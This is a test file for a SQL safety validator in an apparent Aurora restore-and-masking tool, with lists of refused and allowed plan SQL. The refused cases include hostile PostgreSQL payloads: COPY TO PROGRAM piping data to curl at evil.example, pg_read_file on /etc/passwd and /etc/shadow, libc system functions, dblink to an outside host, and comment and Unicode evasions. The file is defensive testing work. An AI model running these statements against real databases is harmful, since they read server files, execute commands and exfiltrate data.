import { describe, expect, it } from "vitest";
import type { PlanInput } from "../../src/plan/schema";
import { sqlProblem } from "../../src/plan/sql-safety";
import { PlanValidationError, validatePlan } from "../../src/plan/validate";

const masking = "UPDATE customers SET email = 'customer-' || id || '@example.invalid'";

function planWith(sql: string, where: "postRestoreSql" | "checks" = "postRestoreSql"): PlanInput {
  return {
    id: "orders",
    source: { accountId: "111111111111", region: "eu-west-1", clusterIdentifier: "orders-prod" },
    targets: [
      {
        accountId: "222222222222",
        region: "eu-west-1",
        clusterIdentifier: "orders-staging",
        kmsKeyId: "arn:aws:kms:eu-west-1:222222222222:alias/aurora-restore",
        masterSecretName: "orders-staging/master",
        postRestoreSql:
          where === "postRestoreSql"
            ? [
                { name: "mask", sql: masking },
                { name: "second", sql },
              ]
            : [],
        checks: where === "checks" ? [{ type: "sql", name: "check", sql }] : [],
      },
    ],
    notificationTopicArn: "arn:aws:sns:eu-west-1:222222222222:aurora-restore",
  };
}

function issuesOf(input: unknown): string[] {
  try {
    validatePlan(input, "plan.json");
  } catch (error) {
    if (error instanceof PlanValidationError) return error.issues.map((i) => `${i.path}: ${i.message}`);
    throw error;
  }
  return [];
}

/** SQL that reaches the server's files, programs, configuration or other servers, and evasions of it. */
const refused: [string, string, RegExp][] = [
  ["COPY TO PROGRAM", "COPY customers TO PROGRAM 'curl -d @- https://evil.example'", /PROGRAM/],
  ["COPY FROM PROGRAM", "COPY t FROM PROGRAM 'id'", /PROGRAM/],
  ["COPY TO a server file", "COPY customers TO '/tmp/customers.csv'", /COPY/],
  ["COPY FROM a server file", "COPY customers FROM '/etc/passwd'", /COPY/],
  ["COPY FROM STDIN", "COPY customers FROM STDIN", /COPY/],
  ["COPY (query) TO STDOUT", "COPY (SELECT * FROM customers) TO STDOUT", /COPY/],
  ["mixed case", "CoPy customers tO pRoGrAm 'id'", /PROGRAM/],
  ["comments inside the statement", "COPY/**/customers/* x */TO/*y*/PROGRAM 'id'", /PROGRAM/],
  ["line comment inside the statement", "COPY customers -- nothing to see\nTO PROGRAM 'id'", /PROGRAM/],
  ["tabs and new lines", "COPY\tcustomers\n\n TO\r\n\tPROGRAM\n'id'", /PROGRAM/],
  ["after a harmless statement", `${masking}; COPY t TO PROGRAM 'id'`, /PROGRAM/],
  ["after a comment that looks unterminated elsewhere", "-- it's fine\nCOPY t TO PROGRAM 'id'", /PROGRAM/],
  ["after a nested comment", "/* a /* nested */ comment */ COPY t TO PROGRAM 'id'", /PROGRAM/],
  ["pg_read_file", "SELECT pg_read_file('/etc/passwd')", /pg_read_file/],
  ["pg_read_file schema-qualified", "SELECT pg_catalog . pg_read_file('/etc/passwd')", /pg_read_file/],
  ["pg_read_file quoted", `SELECT "pg_read_file"('/etc/passwd')`, /pg_read_file/],
  ["pg_read_binary_file", "SELECT PG_READ_BINARY_FILE('/etc/shadow')", /pg_read_binary_file/],
  ["pg_ls_dir", "SELECT * FROM pg_ls_dir('/')", /pg_ls_dir/],
  ["pg_stat_file", "SELECT pg_stat_file('/etc/passwd')", /pg_stat_file/],
  ["lo_import", "SELECT lo_import('/etc/passwd')", /lo_import/],
  ["lo_export", "SELECT lo_export(16384, '/tmp/x')", /lo_export/],
  ["ALTER SYSTEM", "ALTER SYSTEM SET log_statement = 'none'", /ALTER SYSTEM/],
  ["ALTER SYSTEM split by a comment", "alter/* */system reset all", /ALTER SYSTEM/],
  ["LOAD", "LOAD '/tmp/evil.so'", /LOAD/],
  [
    "untrusted language",
    "CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u",
    /plpython3u/,
  ],
  [
    "C function",
    "CREATE FUNCTION s(text) RETURNS int AS 'libc.so.6', 'system' LANGUAGE C STRICT",
    /LANGUAGE c/,
  ],
  ["quoted language name", "CREATE FUNCTION s(text) RETURNS int AS 'x' LANGUAGE 'plperlu'", /plperlu/],
  ["DO in an untrusted language", "DO LANGUAGE plperlu $$ system('id') $$", /plperlu/],
  ["CREATE EXTENSION of an untrusted language", "CREATE EXTENSION IF NOT EXISTS plpython3u", /plpython3u/],
  ["CREATE LANGUAGE", "CREATE OR REPLACE TRUSTED LANGUAGE plsh", /LANGUAGE/],
  ["dblink", "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)", /dblink/],
  ["dblink_connect", "SELECT dblink_connect('host=evil.example')", /dblink_connect/],
  ["CREATE EXTENSION dblink", "CREATE EXTENSION dblink", /dblink/],
  ["postgres_fdw", "CREATE EXTENSION postgres_fdw", /postgres_fdw/],
  ["CREATE SERVER", "CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (host 'evil.example')", /CREATE SERVER/],
  ["CREATE USER MAPPING", "CREATE USER MAPPING FOR app SERVER s", /USER MAPPING/],
  ["IMPORT FOREIGN SCHEMA", "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x", /IMPORT FOREIGN/],
  ["aws_s3 export", "SELECT aws_s3.query_export_to_s3('SELECT * FROM customers', 'b', 'k')", /aws_s3/],
  ["CREATE TABLESPACE", "CREATE TABLESPACE t LOCATION '/tmp'", /TABLESPACE/],
  ["COPY in a DO block", "DO $$ BEGIN COPY customers TO PROGRAM 'id'; END $$", /PROGRAM/],
  ["COPY in a tagged DO block", "DO $body$BEGIN copy t to program 'id'; END$body$", /PROGRAM/],
  [
    "COPY in a function body",
    "CREATE OR REPLACE FUNCTION f() RETURNS void AS $f$ COPY t TO '/tmp/x' $f$ LANGUAGE sql",
    /COPY/,
  ],
  [
    "COPY in a quoted function body",
    "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'COPY t TO PROGRAM ''id'''",
    /PROGRAM/,
  ],
  ["dynamic SQL in a DO block", "DO $$ BEGIN EXECUTE 'CO' || 'PY t TO PROGRAM ''id'''; END $$", /EXECUTE/],
  ["pg_read_file in a DO block", "DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", /pg_read_file/],
  ["turning standard strings off", "SET standard_conforming_strings = off", /standard_conforming_strings/],
  [
    "turning standard strings off with set_config",
    "SELECT set_config('standard_conforming_strings', 'off', false)",
    /standard_conforming_strings/,
  ],
  // With standard_conforming_strings off, 'a\' does not end: the COPY is code, not a string.
  ["a backslash that would end a string", "SELECT 'a\\', 'x COPY t TO PROGRAM ''id'' --'", /PROGRAM/],
  ["Unicode-escaped name", `SELECT U&"\\0070g_read_file"('/etc/passwd')`, /Unicode/],
  ["Unicode-escaped string", "SELECT U&'\\0041'", /Unicode/],
  ["an unterminated string", "SELECT 'oops", /unterminated/],
  ["an unterminated comment", "SELECT 1 /* oops", /unterminated/],
  ["an unterminated dollar quote", "DO $$ BEGIN", /unterminated/],
  ["preload libraries", "ALTER ROLE app SET session_preload_libraries = 'evil'", /preload/],
  ["server roles", "GRANT pg_execute_server_program TO app", /pg_execute_server_program/],
];

/** SQL masking and checks do write: none of it may be refused. */
const allowed: [string, string][] = [
  ["masking", masking],
  [
    "the demo's masking",
    "UPDATE public.customers SET full_name = 'Customer ' || id, email = 'customer-' || id || '@example.invalid'",
  ],
  ["a check", "SELECT count(*) = 0 FROM public.customers WHERE email NOT LIKE '%@example.invalid'"],
  ["COPY in a line comment", `-- COPY customers TO PROGRAM 'id' was how we did it\n${masking}`],
  ["COPY in a block comment", `/* COPY t TO '/tmp/x'; pg_read_file() */ ${masking}`],
  ["TO PROGRAM in a string literal", "UPDATE notes SET body = 'copy it TO PROGRAM managers'"],
  ["COPY in a string literal", "UPDATE notes SET body = 'COPY t TO PROGRAM ''id'''"],
  ["pg_read_file in a string", "UPDATE notes SET body = 'never call pg_read_file'"],
  ["COPY in an escape string", "UPDATE notes SET body = E'it\\'s COPY t TO PROGRAM'"],
  ["COPY in a dollar-quoted literal", "UPDATE notes SET body = $$COPY t TO PROGRAM 'id'$$"],
  ["an identifier containing copy", "UPDATE t SET copy_count = 0 FROM other WHERE t.id = other.id"],
  ["a trusted extension", "CREATE EXTENSION IF NOT EXISTS pgcrypto"],
  [
    "pgcrypto masking",
    "UPDATE customers SET email = encode(digest(email, 'sha256'), 'hex') || '@example.invalid'",
  ],
  ["a plpgsql DO block", "DO $$ BEGIN UPDATE customers SET phone = NULL; END $$"],
  [
    "a SQL function",
    "CREATE FUNCTION mask(text) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT md5($1) $$",
  ],
  [
    "a plpgsql function",
    "CREATE OR REPLACE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$",
  ],
  ["TRUNCATE", "TRUNCATE audit_log, sessions"],
  ["a quoted identifier", `UPDATE "Customers" SET "Email" = 'x@example.invalid'`],
  ["dollar parameters", "PREPARE p(int) AS SELECT $1 + 1"],
  ["a backslash in a standard string", "UPDATE paths SET p = 'C:\\temp\\'"],
];

describe("plan SQL safety", () => {
  it.each(refused)("refuses %s", (_case, sql, found) => {
    const problem = sqlProblem(sql);
    expect(problem, sql).toBeDefined();
    expect(problem?.found).toMatch(found);
  });

  it.each(allowed)("allows %s", (_case, sql) => {
    expect(sqlProblem(sql)).toBeUndefined();
  });

  it("names the field path and says why", () => {
    const issues = issuesOf(planWith("COPY customers TO PROGRAM 'id'"));
    expect(issues).toEqual([
      expect.stringMatching(
        /^targets\[0\]\.postRestoreSql\[1\]\.sql: COPY \.\.\. TO\/FROM PROGRAM is not allowed in plan SQL: it reads or writes files or runs programs on the database server \(Aurora's master user cannot do this either, and masking or checking data never needs it\)$/,
      ),
    ]);
  });

  it("checks SQL checks too", () => {
    expect(issuesOf(planWith("SELECT length(pg_read_file('/etc/passwd')) > 0", "checks"))).toEqual([
      expect.stringMatching(/^targets\[0\]\.checks\[0\]\.sql: pg_read_file is not allowed/),
    ]);
  });

  it("accepts a plan whose SQL is only masking", () => {
    expect(issuesOf(planWith("UPDATE customers SET phone = NULL"))).toEqual([]);
  });

  it("reads large SQL quickly (the lexer is linear)", () => {
    const sql = `${"UPDATE t SET a = 'x' /* c */ -- d\n; ".repeat(1_500)}SELECT 1`;
    expect(sql.length).toBeGreaterThan(50_000);
    const started = performance.now();
    expect(sqlProblem(sql)).toBeUndefined();
    expect(sqlProblem(`${sql}; COPY t TO PROGRAM 'id'`)?.found).toMatch(/PROGRAM/);
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});
